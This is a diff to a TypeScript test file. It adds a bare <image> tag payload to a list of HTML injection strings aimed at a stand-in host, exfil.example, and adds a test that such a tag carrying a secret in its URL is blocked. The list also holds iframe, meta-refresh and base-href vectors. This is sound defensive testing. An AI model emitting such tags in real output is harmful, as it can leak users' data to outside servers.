@@ -60,6 +60,8 @@ const PAYLOADS: Record<string, string[]> = {
     `<object data="https://${HOST}/o.swf"></object><embed src="https://${HOST}/e.swf">`,
     `<iframe src="https://${HOST}/f"></iframe>`,
     `<svg><image href="https://${HOST}/svg.png"></image></svg>`,
+    // The HTML parser reads a bare <image> as <img>: no "img" in the text, an image in the tree.
+    `<image src="https://${HOST}/bare-image.png">`,
     `<svg><use xlink:href="https://${HOST}/s.svg#x"></use></svg>`,
     `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
     `<base href="https://${HOST}/">`,
@@ -112,6 +114,13 @@ describe('renderMarkdown: answers are inert', () => {
     expect(html).toContain('[image: chart — from exfil.example, not loaded]');
     expect(html).not.toContain(SECRET);
     expect(blockedImages).toEqual([`https://${HOST}/c.png?${SECRET}`, `https://${HOST}/x.png`]);
+  });
+
+  it('an image tag the parser renames (<image> → <img>) is blocked too, although the text never says img', () => {
+    const { html, blockedImages } = render(`Plain words. <image src="https://${HOST}/p.png?${SECRET}">`);
+    expect(html).not.toContain(SECRET);
+    expect(html).toContain('from exfil.example, not loaded');
+    expect(blockedImages).toEqual([`https://${HOST}/p.png?${SECRET}`]);
   });
 
   it('shows an image the user loaded from its local copy, and inline data images as they are', () => {
